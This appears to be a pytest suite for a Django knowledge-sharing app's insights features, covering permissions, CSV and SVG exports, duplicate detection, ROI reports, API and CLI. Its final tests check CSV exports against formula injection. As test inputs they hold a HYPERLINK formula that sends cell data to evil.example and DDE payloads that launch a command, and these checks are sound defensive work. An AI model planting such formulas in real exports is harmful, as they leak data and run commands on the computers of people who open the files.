"""Insights pages: permissions, exports parsed by real parsers, the propose-page box, API, CLI."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from knowflow.insights import services
from knowflow.insights.models import DuplicateCluster, RoiStudy
from tests.conftest import signed_in
from tests.insights.conftest import Programme
from tests.insights.test_services import ABSTRACT, copies

pytestmark = pytest.mark.django_db
SVG = "{http://www.w3.org/2000/svg}"


def test_member_is_refused_every_insights_page(programme: Programme) -> None:
    client = signed_in(programme.member)
    for url in (
        "/insights/",
        "/insights/dashboard.csv",
        "/insights/duplicates/",
        "/insights/expertise/",
        "/insights/network/",
        "/insights/network/edges.csv",
        "/insights/roi/",
    ):
        response = client.get(url)
        assert response.status_code == 403, url
        assert "Insights are for enablers and leaders." in response.content.decode()


def test_dashboard_page_shows_figures_with_previous_period(programme: Programme) -> None:
    response = signed_in(programme.enabler).get("/insights/?period=last-30-days")
    html = response.content.decode()
    assert response.status_code == 200
    assert (
        '<tr><th scope="row">Learning hours</th><td>6.0</td><td>0.0</td><td>new</td></tr>' in html
    )
    assert "Figures computed just now." in html


def test_dashboard_charts_are_svg_documents_with_their_numbers(programme: Programme) -> None:
    client = signed_in(programme.enabler)
    for chart in ("hours", "unit", "office", "region", "equity"):
        response = client.get(f"/insights/charts/{chart}.svg?period=last-30-days")
        assert response["Content-Type"] == "image/svg+xml"
        root = ET.fromstring(response.content)
        assert root.tag == f"{SVG}svg"
        assert root.find(f"{SVG}title") is not None
    hours = ET.fromstring(client.get("/insights/charts/hours.svg?period=last-30-days").content)
    texts = [t.text for t in hours.iter(f"{SVG}text")]
    assert "2.5 h" in texts and "1 h" in texts


def test_dashboard_csv_parses_and_holds_the_key_figures(programme: Programme) -> None:
    response = signed_in(programme.enabler).get("/insights/dashboard.csv?period=last-30-days")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    figures = {r["item"]: r["this period"] for r in rows if r["section"] == "key figure"}
    assert figures["Sessions run"] == "2"
    assert figures["Unique learners"] == "4"
    equity = [r for r in rows if r["section"] == "time-zone equity" and r["item"] == "EMEA"]
    assert [r["this period"] for r in equity] == ["50.0", "60.0", "62.5"]


def test_dashboard_page_from_rollup_has_a_fixed_query_count(programme: Programme) -> None:
    services.rollups_refresh()
    client = signed_in(programme.enabler)
    client.get("/insights/")
    with CaptureQueriesContext(connection) as queries:
        html = client.get("/insights/").content.decode()
    assert "Figures computed by the worker 0 minutes ago" in html
    assert len(queries) <= 4  # session, user, person, rollup


def test_network_svg_and_edges_csv(programme: Programme) -> None:
    client = signed_in(programme.enabler)
    root = ET.fromstring(client.get("/insights/network.svg?period=last-30-days").content)
    assert len(list(root.iter(f"{SVG}line"))) == 2
    rows = list(
        csv.reader(
            io.StringIO(
                client.get("/insights/network/edges.csv?period=last-30-days").content.decode()
            )
        )
    )
    assert rows == [
        ["unit_a", "unit_b", "weight"],
        ["Team A", "Team B", "2"],
        ["Team B", "Team C", "1"],
    ]


def test_expertise_csv(programme: Programme) -> None:
    rows = list(
        csv.DictReader(
            io.StringIO(
                signed_in(programme.enabler)
                .get("/insights/expertise.csv?period=last-30-days")
                .content.decode()
            )
        )
    )
    assert [(r["name"], r["hours_shared"]) for r in rows] == [
        ("Sue Speaker", "6.0"),
        ("Sam Speaker", "4.0"),
    ]


def test_duplicates_page_and_decision(programme: Programme) -> None:
    copies(programme)
    services.duplicates_detect()
    cluster = DuplicateCluster.objects.get()
    client = signed_in(programme.enabler)
    assert (
        "reuse would have saved 3.0 h of preparation"
        in client.get("/insights/duplicates/").content.decode()
    )
    response = client.post(
        f"/insights/duplicates/{cluster.pk}/decide/", {"status": "duplicate", "note": "same talk"}
    )
    assert response.status_code == 302
    cluster.refresh_from_db()
    assert (cluster.status, cluster.note, cluster.decided_by) == (
        "duplicate",
        "same talk",
        programme.enabler,
    )
    refused = signed_in(programme.member).post(
        f"/insights/duplicates/{cluster.pk}/decide/", {"status": "not_duplicate"}
    )
    assert refused.status_code == 403


def test_propose_page_has_the_already_taught_box_and_its_answer(programme: Programme) -> None:
    a, _ = copies(programme)
    services.duplicates_detect()
    client = signed_in(programme.member)
    assert 'id="already-taught"' in client.get("/sessions/propose/").content.decode()
    html = client.get(
        "/insights/already-taught/",
        {"title": "Property based testing", "abstract": ABSTRACT, "fragment": "1"},
    ).content.decode()
    assert 'Already taught — <a href="/sessions/' in html
    assert "Property-based testing in practice" in html
    assert "Sam Speaker" in html


def test_roi_pages_report_trace_and_csv(programme: Programme) -> None:
    client = signed_in(programme.enabler)
    today = timezone.now().date()
    response = client.post(
        "/insights/roi/",
        {
            "title": "Testing guild ROI",
            "scope": "programme",
            "period_start": (today - timedelta(days=30)).isoformat(),
            "period_end": today.isoformat(),
            "isolation_method": "participant_estimate",
            "isolation_note": "Estimates.",
            "default_hourly_cost": "50",
            "attribution_share": "1",
            "hours_saved_cap": "40",
            "preparation_ratio": "3",
            "organiser_hours": "0",
        },
    )
    study = RoiStudy.objects.get()
    assert response.status_code == 302
    client.post(
        f"/insights/roi/{study.pk}/add/training/",
        {"course": "Course", "price": "1000", "people": "2"},
    )
    client.post(f"/insights/roi/{study.pk}/add/intangible/", {"text": "Better morale"})
    report = client.get(f"/insights/roi/{study.pk}/").content.decode()
    assert "Better morale" in report
    assert (
        "training avoided: Course"
        in client.get(f"/insights/roi/{study.pk}/trace/").content.decode()
    )
    rows = list(
        csv.DictReader(io.StringIO(client.get(f"/insights/roi/{study.pk}.csv").content.decode()))
    )
    totals = {r["item"]: r["value"] for r in rows if r["section"] in ("total", "result")}
    # costs: attendees 6 h × 50 = 300, speakers 2.5 h × 50 = 125 + prep 7.5 h × 50 = 375 → 800
    assert totals == {
        "costs": "800.00",
        "benefits": "2000.00",
        "benefit-cost ratio": "2.50",
        "ROI %": "150.0",
    }
    assert [r["item"] for r in rows if r["section"] == "intangible"] == ["Better morale"]


def test_api_dashboard_duplicates_and_roi(programme: Programme) -> None:
    copies(programme)
    services.duplicates_detect()
    client = signed_in(programme.enabler)
    data = client.get("/api/v1/insights/dashboard?period=last-30-days").json()
    assert (
        data["figures"]["sessions_run"],
        data["previous"]["sessions_run"],
        data["from_rollup"],
    ) == (3, 0, False)
    [cluster] = client.get("/api/v1/insights/duplicates").json()
    assert cluster["hours_reuse_would_save"] == 3.0
    decided = client.post(
        f"/api/v1/insights/duplicates/{cluster['id']}/decision",
        {"status": "bogus"},
        content_type="application/json",
    )
    assert decided.status_code == 422  # an enum in the API document
    assert decided.json()["field"] == "status"
    today = timezone.now().date()
    created = client.post(
        "/api/v1/insights/roi",
        {
            "title": "API study",
            "period_start": (today - timedelta(days=30)).isoformat(),
            "period_end": today.isoformat(),
            "isolation_method": "trend_line",
            "isolation_note": "Trend of tickets.",
            "default_hourly_cost": "50",
        },
        content_type="application/json",
    )
    assert created.status_code == 201
    assert (
        created.json()["costs"] == "1000.00"
    )  # 800 as on the ROI page + the copy given 20 days ago: 1 h + 3 h prep at 50
    assert signed_in(programme.member).get("/api/v1/insights/dashboard").status_code == 403


def test_cli_lists_clusters_as_json_lines(programme: Programme) -> None:
    a, b = copies(programme)
    out = io.StringIO()
    call_command("duplicates", "--json", stdout=out, stderr=io.StringIO())
    [line] = [json.loads(x) for x in out.getvalue().splitlines()]
    assert [s["id"] for s in line["sessions"]] == sorted([a.pk, b.pk])
    assert line["status"] == "proposed"


def test_cli_pairs_scores_imported_talks_and_reports_unknown_ids(
    programme: Programme, tmp_path: object
) -> None:
    library = pytest.importorskip("knowflow.library.models")
    a, b = copies(programme)
    for session, external in (
        (a, "conf-2019/pbt"),
        (b, "conf-2020/pbt"),
        (programme.session2, "conf-2020/k8s"),
    ):
        library.Resource.objects.create(
            kind="recording",
            title=session.title,
            slug=f"rec-{session.pk}",
            session=session,
            url="https://video.example.org/x",
            source="talk",
            external_id=external,
        )
    pairs = tmp_path / "pairs.jsonl"
    pairs.write_text(
        '{"a": "conf-2019/pbt", "b": "conf-2020/pbt"}\n{"a": "conf-2019/pbt", "b": "conf-2020/k8s"}\n'
        '{"a": "conf-2019/pbt", "b": "nope"}\nnot json\n'
    )
    out = io.StringIO()
    call_command("duplicates", "pairs", str(pairs), stdout=out)
    lines = [json.loads(x) for x in out.getvalue().splitlines()]
    assert [(x["a"], x["b"], x.get("duplicate")) for x in lines[:2]] == [
        ("conf-2019/pbt", "conf-2020/pbt", True),
        ("conf-2019/pbt", "conf-2020/k8s", False),
    ]
    assert 0.5 <= lines[0]["score"] <= 1 and lines[1]["score"] < 0.5
    assert lines[2] == {"a": "conf-2019/pbt", "b": "nope", "error": "unknown id: nope"}
    assert lines[3] == {"a": None, "b": None, "error": "line 4 is not an object with 'a' and 'b'"}


def test_hourly_cost_form_on_the_roi_page(programme: Programme) -> None:
    client = signed_in(programme.enabler)
    unit = programme.s1.org_unit
    response = client.post(
        "/insights/roi/", {"form": "cost", "org_unit": unit.pk, "amount": "72.50", "source": "HR"}
    )
    assert response.status_code == 302
    assert (
        "<td>Team A</td><td>72.50</td><td>HR</td>" in client.get("/insights/roi/").content.decode()
    )
    both = client.post(
        "/insights/roi/",
        {"form": "cost", "org_unit": unit.pk, "office": programme.s1.office.pk, "amount": "1"},
    )
    assert "Give an org unit or an office, not both." in both.content.decode()


def test_duplicates_page_query_count_does_not_grow_with_clusters(programme: Programme) -> None:
    from tests.factories import make_session

    a, _ = copies(programme)
    a.circle = programme.session1.circle  # so the circle prefetch runs in both measurements
    a.save()
    services.duplicates_detect()
    client = signed_in(programme.enabler)
    client.get("/insights/duplicates/")
    with CaptureQueriesContext(connection) as one:
        client.get("/insights/duplicates/")
    for i in range(3):
        text = f"Unique subject number {i} " + ABSTRACT.replace("date parser", f"parser {i}")
        make_session(title=f"Copy {i} of a talk", abstract=text * 2, speakers=[programme.s2])
        make_session(title=f"Copy {i} of a talk", abstract=text * 2, speakers=[programme.s2])
    services.duplicates_detect()
    assert DuplicateCluster.objects.count() > 1
    with CaptureQueriesContext(connection) as many:
        client.get("/insights/duplicates/")
    assert len(many) == len(one)


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
HOSTILE_UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"


def _csv_rows(client, url: str) -> list[list[str]]:  # noqa: ANN001
    return list(csv.reader(io.StringIO(client.get(url).content.decode())))


def test_dashboard_csv_neutralises_a_hostile_unit_name(programme: Programme) -> None:
    programme.p1.org_unit.__class__.objects.filter(name="Team B").update(name=HOSTILE_UNIT)
    rows = _csv_rows(signed_in(programme.enabler), "/insights/dashboard.csv?period=last-30-days")
    units = [r[1] for r in rows if r[0] == "learners by org_unit"]
    assert "'" + HOSTILE_UNIT in units
    assert [cell for row in rows for cell in row if cell.startswith(("=", "@", "+"))] == []


def test_expertise_csv_neutralises_a_hostile_display_name(programme: Programme) -> None:
    programme.s2.display_name = HOSTILE_NAME
    programme.s2.save()
    rows = _csv_rows(signed_in(programme.enabler), "/insights/expertise.csv?period=last-30-days")
    assert [(r[0], r[4]) for r in rows[1:]] == [("'" + HOSTILE_NAME, "6.0"), ("Sam Speaker", "4.0")]


def test_network_csv_neutralises_a_hostile_unit_name(programme: Programme) -> None:
    programme.p1.org_unit.__class__.objects.filter(name="Team B").update(name=HOSTILE_UNIT)
    rows = _csv_rows(
        signed_in(programme.enabler), "/insights/network/edges.csv?period=last-30-days"
    )
    assert rows == [
        ["unit_a", "unit_b", "weight"],
        ["Team A", "'" + HOSTILE_UNIT, "2"],
        ["'" + HOSTILE_UNIT, "Team C", "1"],
    ]


def test_roi_csv_neutralises_hostile_titles(programme: Programme) -> None:
    client = signed_in(programme.enabler)
    today = timezone.now().date()
    client.post(
        "/insights/roi/",
        {
            "title": "Guild ROI",
            "scope": "programme",
            "period_start": (today - timedelta(days=30)).isoformat(),
            "period_end": today.isoformat(),
            "isolation_method": "participant_estimate",
            "isolation_note": "Estimates.",
            "default_hourly_cost": "50",
            "attribution_share": "1",
            "hours_saved_cap": "40",
            "preparation_ratio": "3",
            "organiser_hours": "0",
        },
    )
    study = RoiStudy.objects.get()
    client.post(
        f"/insights/roi/{study.pk}/add/training/",
        {"course": "-2+3+cmd|' /C calc'!A0", "price": "1000", "people": "2"},
    )
    client.post(f"/insights/roi/{study.pk}/add/intangible/", {"text": "\t=1+1"})
    rows = _csv_rows(client, f"/insights/roi/{study.pk}.csv")
    # The form strips the tab; the formula left behind is still neutralised.
    assert [r for r in rows if r[0] in ("benefit", "intangible")] == [
        # Inside a cell, after other text, a formula cannot start: left as written.
        [
            "benefit",
            "training avoided: -2+3+cmd|' /C calc'!A0",
            "2 people × 1000.00",
            "2000.00",
            "entered by hand",
        ],
        ["intangible", "'=1+1", "", "", "not converted to money"],
    ]


def test_dashboard_charts_write_figures_and_shares_as_the_readers_locale_does(
    programme: Programme,
) -> None:
    client = signed_in(programme.enabler)

    def texts(chart: str, language: str) -> list[str]:
        response = client.get(
            f"/insights/charts/{chart}.svg?period=last-30-days", HTTP_ACCEPT_LANGUAGE=language
        )
        return [t.text for t in ET.fromstring(response.content).iter(f"{SVG}text")]

    assert texts("equity", "en") == ["this period", "previous period", "AMER", "50%", "EMEA", "50%"]
    assert texts("equity", "de-DE")[2:] == ["AMER", "50\xa0%", "EMEA", "50\xa0%"]
    assert texts("hours", "de-DE")[2:5] == ["In the room", "2,5 h", "0 h"]
    assert texts("hours", "en")[2:5] == ["In the room", "2.5 h", "0 h"]


def test_bar_chart_keeps_one_decimal_of_a_share_and_groups_thousands_per_locale() -> None:
    from knowflow.insights.charts import bar_chart
    from knowflow.l10n import locale_from_header

    def texts(locale: str, **kwargs: object) -> list[str]:
        svg = bar_chart(title="t", locale=locale_from_header(locale), **kwargs)
        return [t.text for t in ET.fromstring(svg).iter(f"{SVG}text")][2:]

    shares = {"rows": [("EMEA", 42.5, None), ("APAC", 7.0, None)], "percent": True}
    counts = {"rows": [("Hours", 12345.5, 1200.0)], "unit": " h"}
    assert texts("en", **shares) == ["EMEA", "42.5%", "APAC", "7%"]
    assert texts("fr", **shares) == ["EMEA", "42,5\xa0%", "APAC", "7\xa0%"]
    assert texts("en", **counts) == ["Hours", "12,345.5 h", "1,200 h"]
    assert texts("de", **counts) == ["Hours", "12.345,5 h", "1.200 h"]
